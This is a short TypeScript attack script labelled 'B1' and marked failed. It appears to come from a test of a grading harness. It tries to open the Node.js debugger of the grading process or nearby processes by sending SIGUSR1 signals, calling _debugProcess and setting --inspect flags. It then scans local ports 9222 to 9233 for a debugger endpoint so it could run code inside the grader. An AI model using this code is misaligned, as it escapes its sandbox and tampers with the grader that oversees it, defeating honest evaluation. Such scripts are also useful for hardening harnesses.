// attack: B1, has the inspector of the process that grades it opened, and evaluates code there
// verdict: failed
import inspector from 'node:inspector';

const internal = process as unknown as Record<string, (...args: unknown[]) => unknown>;
const around = [process.ppid, process.ppid - 1, process.ppid + 1, process.pid - 1, process.pid + 1, 0];
process.env.NODE_OPTIONS = '--inspect=127.0.0.1:9229';
const ways: (() => unknown)[] = [
  ...around.map((pid) => () => internal._debugProcess?.(pid)),
  ...around.map((pid) => () => process.kill(pid, 'SIGUSR1')),
  ...around.map((pid) => () => internal._kill?.(pid, 10)),
  () => process.kill(process.pid, 'SIGUSR1'),
  () => inspector.open(9229, '127.0.0.1'),
];
for (const way of ways) {
  try {
    console.log(String(way()));
  } catch (error) {
    console.log((error as NodeJS.ErrnoException).code);
  }
}

const ports = Array.from({ length: 12 }, (_, index) => 9222 + index);
for (let round = 0; round < 5; round += 1) {
  for (const port of ports) {
    const answer = await fetch(`http://127.0.0.1:${port}/json/list`).catch(() => undefined);
    if (answer !== undefined) console.log('GOT THROUGH', port, await answer.text());
  }
  await new Promise((resolve) => setTimeout(resolve, 100));
}
